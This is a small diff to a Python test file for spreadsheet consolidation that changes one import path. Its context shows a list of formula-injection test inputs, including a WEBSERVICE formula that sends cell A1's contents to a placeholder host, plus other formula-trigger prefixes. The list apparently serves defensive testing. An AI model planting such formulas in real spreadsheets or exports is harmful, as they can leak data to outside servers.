@@ -12,7 +12,7 @@ import openpyxl
 import pytest
 
 from macros.schema import ITEMS
-from tests.consolidate_kit import Camp, copy_camp, good_row, issue
+from consolidate_kit import Camp, copy_camp, good_row, issue
 
 LIVE = ['=WEBSERVICE("http://example.invalid/?"&A1)', "+1+1", "-2-2", "@SUM(A1:A3)"]
 
